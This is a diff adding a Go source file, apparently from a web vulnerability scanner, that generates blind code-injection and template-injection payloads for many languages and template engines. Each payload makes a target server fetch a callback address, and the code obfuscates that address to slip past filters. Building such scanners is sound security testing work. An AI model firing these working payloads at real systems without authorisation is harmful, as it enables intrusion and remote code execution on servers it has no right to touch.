@@ -1,0 +1,180 @@
+package blindinjection
+
+import (
+	"fmt"
+	"strings"
+
+	"merlon/internal/engine/dast/activescan"
+)
+
+// A payload is what is tried with one request.
+type payload struct {
+	languages string // separated by spaces
+	template  bool
+	// write returns the payload for a value, and where in it what is asked for stands.
+	write func(value string, bait func() activescan.Bait) (string, []part)
+}
+
+// A part of a payload asks for an address of its own.
+type part struct {
+	bait  activescan.Bait
+	place string
+}
+
+// suits reports whether the payload is for one of the languages; without any it may be.
+func (p payload) suits(spoken map[string]bool) bool {
+	if len(spoken) == 0 {
+		return p.languages != "dotnet"
+	}
+	for l := range strings.FieldsSeq(p.languages) {
+		if spoken[l] {
+			return true
+		}
+	}
+	return false
+}
+
+// A call writes an expression that asks for an address.
+type call func(address string) string
+
+// cut is where programs cut addresses in two, which they join: what only looks for links in
+// texts, and asks for them, sees none.
+const cut = len("ht")
+
+// The calls of languages. Those of programs have no quotation marks in them, so that they
+// stand in every kind of string.
+func python(address string) string {
+	return fmt.Sprintf("__import__(%s).request.urlopen(%s,None,3)", pythonText("urllib.request"), pythonText(address))
+}
+
+// pythonText writes a text as the number that its bytes are, most significant first.
+func pythonText(text string) string {
+	return fmt.Sprintf("(0x%x).to_bytes(%d,*dict(big=1)).decode()", text, len(text))
+}
+
+// node asks by the global object that the function of functions knows, which is the outer
+// one where a program runs in a context of its own. The source of a regular expression is
+// a text; the backslashes in it are slashes for who reads addresses. What fails is caught: nothing else
+// would, and end the process.
+func node(address string) string {
+	literal := func(s string) string { return "/" + strings.ReplaceAll(s, "/", `\/`) + "/.source" }
+	at := literal(address)
+	return "(g=>g.fetch?g.fetch(" + at + ").catch(x=>x):g.process.mainModule.require(/http/.source).get(" + at +
+		").on(/error/.source,x=>x))" +
+		"((this&&this.constructor||Object).constructor(/return this/.source)())"
+}
+
+func ruby(address string) string {
+	return "(require(%q(open-uri));URI.open(%q(" + address[:cut] + ")+%q(" + address[cut:] + "),read_timeout: 3).read)"
+}
+
+func perl(address string) string {
+	return "(require HTTP::Tiny)&&HTTP::Tiny->new->get(q(" + address[:cut] + ").q(" + address[cut:] + "))"
+}
+
+func php(address string) string {
+	var codes []string
+	for _, c := range []byte(address) {
+		codes = append(codes, fmt.Sprintf("chr(%d)", c))
+	}
+	return "@file_get_contents(" + strings.Join(codes, ".") + ")"
+}
+
+// java is an expression of Java that most of its expression languages take as well.
+func java(quote string) call {
+	return func(address string) string {
+		return "new java.net.URL(" + quote + address[:cut] + quote + "+" + quote + address[cut:] + quote +
+			").openStream()"
+	}
+}
+
+// anywhere writes a program that runs wherever the value stands: by itself, between
+// single, or between double quotes. What stands elsewhere is text then.
+//
+//	C+'+C+'+"+C+"
+func anywhere(c call, join string) func(string, func() activescan.Bait) (string, []part) {
+	return func(value string, bait func() activescan.Bait) (string, []part) {
+		parts := []part{{bait(), "as an expression"}, {bait(), "behind a string"}, {bait(), "behind a string in " +
+			"double quotes"}}
+		text := c(parts[0].bait.Named()) + join + "'" + join + c(parts[1].bait.Named()) + join + "'" + join + `"` +
+			join + c(parts[2].bait.Named()) + join + `"`
+		if strings.Contains(value, ";") { // statements
+			text += ";"
+		}
+		return text, parts
+	}
+}
+
+// quoted are expressions that need quotes themselves: by itself and in a string, or in a
+// string of double quotes.
+func quoted(_ string, bait func() activescan.Bait) (string, []part) {
+	parts := []part{{bait(), "as an expression"}, {bait(), "behind a string"}}
+	c := java(`"`)
+	return c(parts[0].bait.Named()) + "+'+" + c(parts[1].bait.Named()) + "+'", parts
+}
+
+func doubly(value string, bait func() activescan.Bait) (string, []part) {
+	b := bait()
+	return value + `"+` + java("'")(b.Named()) + `+"`, []part{{b, "behind a string in double quotes"}}
+}
+
+// A tag is an expression between the signs of an engine of templates.
+type tag struct {
+	engines   string
+	open, end string
+	call      call
+}
+
+// tags writes a value with tags of several engines, none of which takes those of another
+// one for its own.
+func tags(list ...tag) func(string, func() activescan.Bait) (string, []part) {
+	return func(value string, bait func() activescan.Bait) (string, []part) {
+		text := value
+		var parts []part
+		for _, t := range list {
+			b := bait()
+			text += " " + t.open + t.call(b.Named()) + t.end
+			parts = append(parts, part{b, "in the form of " + t.engines})
+		}
+		return text, parts
+	}
+}
+
+// in writes a call by a format, with the two parts of the address in it.
+func in(format string) call {
+	return func(address string) string {
+		return strings.NewReplacer("HEAD", address[:cut], "TAIL", address[cut:]).Replace(format)
+	}
+}
+
+var payloads = []payload{
+	{languages: "python", write: anywhere(python, "+")},
+	{languages: "node", write: anywhere(node, "+")},
+	{languages: "ruby", write: anywhere(ruby, "+")},
+	{languages: "php", write: anywhere(php, ".")},
+	{languages: "perl", write: anywhere(perl, ".")},
+	{languages: "java", write: quoted},
+	{languages: "java", write: doubly},
+	{languages: "python ruby", template: true, write: tags(
+		tag{"Jinja2", "{{", "}}",
+			in(`lipsum.__globals__.__builtins__.__import__("urllib.request").request.urlopen("HEAD"~"TAIL",None,3)`)},
+		tag{"Mako, Chameleon", "${", "}", python}, tag{"Slim, Haml", "#{", "}", ruby})},
+	{languages: "node", template: true, write: tags(
+		tag{"Nunjucks", "{{", "}}", func(a string) string {
+			return `range.constructor("return ` + strings.ReplaceAll(node(a), `\`, `\\`) + `")()`
+		}},
+		tag{"EJS, Eta, lodash", "<%=", "%>", node}, tag{"strings of JavaScript, lodash", "${", "}", node},
+		tag{"Pug", "#{", "}", node})},
+	{languages: "php ruby java", template: true, write: tags(
+		tag{"Twig", "{{", "}}", in(`['HEAD'~'TAIL']|map('file_get_contents')|join`)}, tag{"ERB", "<%=", "%>", ruby},
+		tag{"Velocity", "#set($e='')", "",
+			in(`$e.class.forName('java.net.URL').getConstructor($e.class).newInstance("HEAD$!{e}TAIL").openStream()`)},
+		tag{"FreeMarker", "${", "}", in(`'freemarker.template.utility.Execute'?new()('curl -m 3 HEAD'+'TAIL')`)})},
+	{languages: "python java", template: true, write: tags(
+		tag{"Tornado", "{{", "}}", python}, tag{"MVEL", "@{", "}", java("'")}, tag{"Groovy, expressions of JSP, " +
+			"Thymeleaf", "${", "}", java("'")}, tag{"Spring", "#{", "}", java("'")})},
+	{languages: "php perl", template: true, write: tags(tag{"Smarty", "{", "}", in(`fetch file="HEAD{''}TAIL"`)},
+		tag{"Mojolicious", "<%=", "%>", perl})},
+	{languages: "dotnet", template: true,
+		write: tags(tag{"Razor", "@(", ")", in(`new System.Net.WebClient().DownloadString("HEAD"+"TAIL")`)})},
+}
